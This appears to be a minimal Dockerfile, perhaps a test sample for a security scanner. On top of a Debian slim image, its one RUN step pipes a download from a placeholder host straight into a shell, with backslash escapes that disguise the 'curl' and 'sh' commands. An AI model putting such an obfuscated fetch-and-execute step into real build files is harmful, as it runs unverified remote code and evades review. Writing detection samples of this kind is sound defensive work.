FROM debian:bookworm-slim
RUN \curl https://example.com/i | s\h
